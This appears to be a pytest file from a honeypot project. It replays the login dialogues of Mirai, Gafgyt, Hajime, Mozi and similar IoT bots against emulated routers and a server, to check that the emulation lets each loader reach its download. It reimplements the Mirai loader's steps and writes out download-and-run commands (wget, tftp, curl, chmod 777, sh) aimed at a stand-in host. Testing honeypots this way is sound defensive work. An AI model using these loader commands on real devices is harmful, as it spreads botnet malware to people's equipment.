"""Mirai's loader and its variants: each dialogue goes through to its download or upload, on routers and on a server."""

from __future__ import annotations

import re

import pytest
from tests.machine.loaders.dialogue import PAYLOAD, GaveUp, Talk, Visit

from urltrap.machine.persona import Kind

TOKEN, TOKEN_ANSWER = "/bin/busybox ECCHI", r"ECCHI: applet not found"
DEVICES: list[Kind] = ["busybox-mips", "busybox-arm"]
E_MACHINE = {8: "mips", 40: "arm", 62: "x86", 183: "arm64"}


class MiraiLoader:
    """The states of the loader that was published: log-in, shell, folder, architecture, method, upload, run."""

    def __init__(self, visit: Visit) -> None:
        self.visit = visit
        self.talk: Talk = visit.terminal()
        self.folder = ""
        self.arch = ""
        self.method = ""

    def run(self) -> None:
        for word in ("enable", "system", "shell", "sh"):
            self.talk.send(word)
        self.talk.ask(TOKEN, TOKEN_ANSWER)
        self._processes()
        self._find_folder()
        self._copy_echo()
        self._architecture()
        self._methods()
        getattr(self, f"_by_{self.method}")()
        self.talk.ask(f"./dvrHelper telnet.{self.arch}; /bin/busybox IHCCE", r"IHCCE: applet not found")

    def _processes(self) -> None:
        came = self.talk.ask(f"/bin/busybox ps; {TOKEN}", TOKEN_ANSWER)
        rows = [line.split() for line in came.splitlines() if re.match(r"\s*\d+\s", line)]
        if len(rows) < 5:
            raise GaveUp("hardly any process: nobody lives here")
        inits = [row for row in rows if row[-1] in ("init", "/sbin/init", "/sbin/procd", "[init]")]
        if any(row[0] != "1" for row in inits):
            raise GaveUp("a second init")

    def _find_folder(self) -> None:
        came = self.talk.ask(f"/bin/busybox cat /proc/mounts; {TOKEN}", TOKEN_ANSWER)
        points = [line.split()[1] for line in came.splitlines() if re.match(r"\S+ /\S* \S+ rw[, ]", line)]
        if not points:
            raise GaveUp("no writable mount")
        for point in [*points, "/dev", "/"]:
            hexed = "".join(f"\\x{byte:02x}" for byte in b"kami" + point.encode())
            path = f"{point.rstrip('/')}/.nippon"
            came = self.talk.ask(
                f"/bin/busybox echo -e '{hexed}' > {path}; /bin/busybox cat {path}; /bin/busybox rm {path}; {TOKEN}",
                TOKEN_ANSWER,
            )
            if re.search(rf"^kami{re.escape(point)}\r?$", came, re.MULTILINE):
                self.folder = point
                return
        raise GaveUp("no mount can be written")

    def _copy_echo(self) -> None:
        self.talk.ask(f"cd {self.folder}; {TOKEN}", TOKEN_ANSWER)
        came = self.talk.ask(
            f"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; {TOKEN}",
            TOKEN_ANSWER,
        )
        if "denied" in came or "No such" in came:
            raise GaveUp(came)

    def _architecture(self) -> None:
        # the loader hears 8 bit characters: the header comes through the terminal as it is, but for newlines
        came = self.talk.ask(f"/bin/busybox cat /bin/echo | /bin/busybox head -c 64; {TOKEN}", TOKEN_ANSWER)
        at = came.find("\x7fELF")
        if at < 0:
            raise GaveUp("no ELF header")
        header = came[at : at + 20].encode("latin-1")
        order = "little" if header[5] == 1 else "big"
        self.arch = E_MACHINE[int.from_bytes(header[18:20], order)] + ("el" if header[5] == 1 else "")
        if self.arch.startswith("arm"):
            came = self.talk.ask(f"cat /proc/cpuinfo; {TOKEN}", TOKEN_ANSWER)
            self.arch = "arm7" if "ARMv7" in came or "v7l" in came else "arm"

    def _methods(self) -> None:
        came = self.talk.ask(f"/bin/busybox wget; /bin/busybox tftp; {TOKEN}", TOKEN_ANSWER)
        self.method = (
            "wget" if "wget: applet not found" not in came
            else "tftp" if "tftp: applet not found" not in came else "echo"
        )  # fmt: skip

    def _by_wget(self) -> None:
        self.talk.ask(
            f"/bin/busybox wget http://198.51.100.9:80/bins/mirai.{self.arch} -O - > dvrHelper; "
            f"/bin/busybox chmod 777 dvrHelper; {TOKEN}",
            TOKEN_ANSWER,
        )

    def _by_tftp(self) -> None:
        self.talk.ask(
            f"/bin/busybox tftp -g -l dvrHelper -r mirai.{self.arch} 198.51.100.9; "
            f"/bin/busybox chmod 777 dvrHelper; {TOKEN}",
            TOKEN_ANSWER,
        )

    def _by_echo(self) -> None:
        for number in range(0, len(PAYLOAD), 128):
            piece = "".join(f"\\x{byte:02x}" for byte in PAYLOAD[number : number + 128])
            arrow = ">" if number == 0 else ">>"
            self.talk.ask(f"echo -ne '{piece}' {arrow} upnp; {TOKEN}", TOKEN_ANSWER)
        self.talk.ask(f"./upnp; ./dvrHelper telnet.{self.arch}; {TOKEN}", TOKEN_ANSWER)


@pytest.mark.parametrize("kind", [*DEVICES, "debian-12"])
def test_mirai_finds_a_folder_reads_the_architecture_and_downloads(kind: Kind) -> None:
    visit = Visit(kind, bodies={b"": PAYLOAD})
    loader = MiraiLoader(visit)
    loader.run()
    assert loader.method == "wget"
    expected = {"busybox-mips": "mips", "busybox-arm": "arm7", "debian-12": "x86el"}[kind]
    assert loader.arch.removesuffix("el") == expected.removesuffix("el")
    assert visit.urls == [f"http://198.51.100.9:80/bins/mirai.{loader.arch}".encode()]
    assert visit.read(f"{loader.folder.rstrip('/')}/dvrHelper") == PAYLOAD


@pytest.mark.parametrize("kind", DEVICES)
def test_mirai_without_wget_downloads_by_tftp(kind: Kind) -> None:
    visit = Visit(kind, bodies={b"": PAYLOAD})
    loader = MiraiLoader(visit)
    loader._methods = lambda: setattr(loader, "method", "tftp")  # type: ignore[method-assign]
    loader.run()
    assert visit.urls == [f"tftp://198.51.100.9/mirai.{loader.arch}".encode()]
    assert visit.read(f"{loader.folder.rstrip('/')}/dvrHelper") == PAYLOAD


@pytest.mark.parametrize("kind", DEVICES)
def test_mirai_uploads_its_payload_in_pieces_of_echo(kind: Kind) -> None:
    visit = Visit(kind)
    loader = MiraiLoader(visit)
    loader._methods = lambda: setattr(loader, "method", "echo")  # type: ignore[method-assign]
    loader.run()
    folder = loader.folder.rstrip("/")
    assert visit.read(f"{folder}/upnp") == PAYLOAD
    assert visit.written[-1].content.size >= 0
    assert PAYLOAD in [each.content.read(0, 10_000) for each in visit.written if each.path.endswith("/upnp")]


@pytest.mark.parametrize("kind", DEVICES)
def test_octal_echo_of_the_gayfgt_probe_is_understood(kind: Kind) -> None:
    talk = Visit(kind).terminal()
    talk.ask(r"/bin/busybox echo -e '\147\141\171\146\147\164'", r"\ngayfgt\r\n")
    talk.ask(r"echo -e '\147\141\171\146\147\164'", r"\ngayfgt\r\n")


@pytest.mark.parametrize("kind", DEVICES)
def test_hajime_and_mozi_copy_echo_read_its_header_and_go_on(kind: Kind) -> None:
    visit = Visit(kind, bodies={b"": PAYLOAD})
    talk = visit.terminal()
    for word in ("enable", "shell", "sh"):
        talk.send(word)
    talk.ask("cat /proc/mounts; /bin/busybox ZTXWA", r"(?s) rw[, ].*ZTXWA: applet not found")
    came = talk.ask("cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ZTXWA", r"ZTXWA: applet not found")
    if "can't cd" in came:  # this device has none: the bot goes to the next folder of its list
        talk.ask("cd /tmp; cat .s || cp /bin/echo .s; /bin/busybox ZTXWA", r"(?s)No such file.*ZTXWA: applet")
    came = talk.ask("tftp; wget; /bin/busybox ZTXWA", r"ZTXWA: applet not found")
    assert "tftp: not found" not in came and "wget: not found" not in came
    came = talk.ask("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", r"\x7fELF")
    assert "1+0 records in" in came and "copied" not in came
    came = talk.ask("/bin/busybox ZTXWA; >.s; cp .s .i", r"ZTXWA: applet not found")
    talk.ask(
        "./oinasf; dd if=/proc/self/exe bs=22 count=1 || while read i; do echo $i; done < /proc/self/exe",
        "ELF",
    )
    talk.ask(
        "/bin/busybox wget http://198.51.100.9:8080/.i -O .i && chmod 777 .i; echo D'O'NE", r"\nDONE\r\n"
    )
    assert visit.urls == [b"http://198.51.100.9:8080/.i"]
    talk.send("rm .s; exit")
    talk.send("exit")
    assert talk.job.exit_status is not None


@pytest.mark.parametrize("kind", [*DEVICES, "debian-12"])
def test_the_variant_without_dd_reads_the_header_in_a_loop(kind: Kind) -> None:
    talk = Visit(kind).terminal()
    talk.send("sh")
    talk.ask(
        "while read i; do echo $i; done < /proc/self/exe | head -c 4; echo; echo E'N'D", r"\x7fELF\r\nEND"
    )


def test_kamiru_by_exec_on_a_server_goes_through() -> None:
    visit = Visit("debian-12", protocol="ssh", bodies={b"": PAYLOAD})
    assert "OK" in visit.exec(r'echo -e "\x4F\x4B"')
    came = visit.exec("cat /proc/mounts; /bin/busybox HWXBQ")
    assert "HWXBQ: applet not found" in came and " rw," in came
    came = visit.exec(
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/8UsA.sh; curl -O "
        "http://198.51.100.9/8UsA.sh; chmod 777 8UsA.sh; sh 8UsA.sh; tftp 198.51.100.9 -c get t8UsA.sh; "
        "tftp -r t8UsA2.sh -g 198.51.100.9; rm -rf 8UsA.sh"
    )
    assert visit.urls[:2] == [b"http://198.51.100.9/8UsA.sh"] * 2
